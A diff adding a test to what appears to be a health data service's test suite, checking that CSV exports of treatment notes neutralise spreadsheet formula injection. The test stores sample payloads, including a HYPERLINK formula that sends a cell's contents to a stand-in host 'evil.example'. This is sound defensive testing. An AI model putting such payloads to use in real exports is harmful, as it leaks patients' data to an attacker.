@@ -295,3 +295,21 @@ def test_fusion__a_devices_later_row_of_an_epoch_wins_over_its_earlier_one(fam):
     got = t.stream_values(features.CGM, epoch, epoch + 1)[epoch]
     assert got["glucose_mgdl"] == 181 and got["minutes_since"] == 0.5
     assert "delta5_mgdl" not in got  # not the stale row's, nor the other device's
+
+
+def test_export__stored_text_never_runs_as_a_spreadsheet_formula(fam):
+    """Anyone with the upload secret writes treatments' text; the patient or their doctor
+    opens the export in a spreadsheet, which ran `=HYPERLINK(…)` as a formula."""
+    fill(fam)
+    link = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    fam.store.tenant("fam-1").add_documents("treatments", [{
+        "identifier": "t2", "created_at": 1_710_000_060_000, "eventType": "+Note",
+        "notes": link, "enteredBy": "@SUM(1+1)", "reason": "\t=1+1", "carbs": -5}])
+    r = fam.client.get(f"{API}/tenants/fam-1/export?format=csv",
+                       headers=fam.auth("admin@example.org"))
+    z = zipfile.ZipFile(io.BytesIO(r.content))
+    [row] = [t for t in csv.DictReader(io.StringIO(z.read("treatments.csv").decode()))
+             if t["identifier"] == "t2"]
+    assert row["notes"] == "'" + link and row["eventType"] == "'+Note"
+    assert row["enteredBy"] == "'@SUM(1+1)" and row["reason"] == "'\t=1+1"
+    assert row["carbs"] == "-5"  # a number stays a number
